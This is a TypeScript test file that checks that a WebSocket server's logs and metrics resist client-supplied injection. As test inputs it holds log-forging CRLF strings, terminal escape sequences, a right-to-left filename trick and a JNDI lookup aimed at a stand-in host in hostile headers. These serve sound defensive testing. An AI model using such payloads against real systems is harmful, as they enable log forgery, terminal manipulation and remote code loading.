import { describe, expect, setDefaultTimeout, test } from "bun:test";
import { createLog } from "../../src/runtime/log.ts";
import { testTimeout } from "../support/patience.ts";
import { Probe } from "../support/probe.ts";
import { RawClient } from "../support/raw.ts";
import { scrape } from "../support/scrape.ts";
import { startTestServer } from "../support/server.ts";
import { connectionToken, secret } from "../support/tokens.ts";

setDefaultTimeout(testTimeout);

/** What would forge a line, colour a terminal or turn the direction of what is read. */
const injections: [name: string, text: string][] = [
  ["a line break", 'a\r\n{"level":"info","event":"server.stopped"}'],
  ["a line separator", "a\u2028b\u2029c\u0085d"],
  ["a terminal's colours", "\u001b[31mred\u001b[0m"],
  ["a terminal's title", "\u001b]0;title\u0007"],
  ["an escape sequence in one character", "\u009b31mred"],
  ["a text that runs backwards", "\u202egnp.exe\u2066"],
  ["NUL, backspace and delete", "a\u0000b\bc\u007fd"],
  ["a quotation mark and a brace", '"}, {"event":"forged"'],
  ["a lookup", "\u0024{jndi:ldap://evil.example/a}"],
];

/** Everything that is no plain character of a line: controls, line separators, and marks of direction. */
const active = /[\p{Cc}\p{Zl}\p{Zp}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

describe("what a client says in a log (T71)", () => {
  test.each(injections)("[SE19] [T71] %s in a close reason stays inside of its one line", async (_, reason) => {
    await using server = await startTestServer();
    using client = await RawClient.open(`${server.ws}/ws`);
    client.sendClose(4000, reason);
    await client.ended();
    expect(await server.log.next("connection.closed")).toMatchObject({ code: 4000, reason: expect.any(String) });
    for (const line of server.log.text) {
      expect(line.endsWith("\n")).toBe(true);
      expect(line.slice(0, -1)).not.toMatch(active);
    }
  });

  test.each(injections)("[SE19] [T71] %s in a user's id stays inside of its one line", async (_, user) => {
    await using server = await startTestServer({ client: { token: { hmac_secret_key: secret } } });
    using probe = await new Probe(`${server.ws}/ws?token=${await connectionToken(user)}`).open();
    await server.log.next("connection.authenticated");
    await probe.close();
    await server.log.next("connection.closed");
    for (const line of server.log.text) expect(line.slice(0, -1)).not.toMatch(active);
  });

  test("[SE19] [T71] a user's id of 4,000 characters is cut in the log, and not where it counts", async () => {
    await using server = await startTestServer({
      client: { token: { hmac_secret_key: secret }, user_connection_limit: 1 },
    });
    const open = async (user: string) => new Probe(`${server.ws}/ws?token=${await connectionToken(user)}`).open();
    const long = "u".repeat(4_000);
    using _first = await open(`${long}a`);
    const { user } = await server.log.next("connection.authenticated");
    expect(String(user).length).toBeLessThanOrEqual(257);
    using _second = await open(`${long}b`);
    await server.log.next("connection.authenticated");
  });

  test.each([
    ["User-Agent", `Mozilla\u001b[31m ${"x".repeat(8_000)}`],
    ["Referer", "https://evil.example/\u0024{jndi:ldap://evil.example/a}"],
    ["X-Forwarded-For", '"}\u001b[2J{"event":"forged"'],
    ["Origin", "https://\u001b[31mevil.example"],
  ])("[SE19] [T71] nothing of a hostile %s header is in the log", async (name, value) => {
    await using server = await startTestServer({ log: { level: "trace" } });
    using client = await RawClient.connect(server.url);
    await client.request({ add: [`${name}: ${value}`] });
    const log = server.log.text.join("");
    expect(log).not.toContain("evil.example");
    expect(log).not.toContain("forged");
    expect(log).not.toContain("xxxx");
  });

  test.each(injections)("[SE19] [T71] %s does nothing to a terminal that shows the log", (_, reason) => {
    const lines: string[] = [];
    const log = createLog({ level: "info", format: "pretty" }, { write: (line) => void lines.push(line) });
    log.info("connection.closed", { reason });
    expect(lines.join("").replaceAll("\n", "")).not.toMatch(active);
  });
});

test("[SE32] [T72] close codes that clients choose add no series to the metrics", async () => {
  await using server = await startTestServer();
  const series = async () => (await scrape(server.url)).match(/^chorus_connections_closed_total\{/gm)?.length ?? 0;
  for (let code = 3_100; code < 3_200; code += 1) {
    using client = await RawClient.open(`${server.ws}/ws`);
    client.sendClose(code);
    expect(await client.closed()).toEqual({ code, reason: "" });
  }
  expect(await series()).toBeLessThan(10);
});
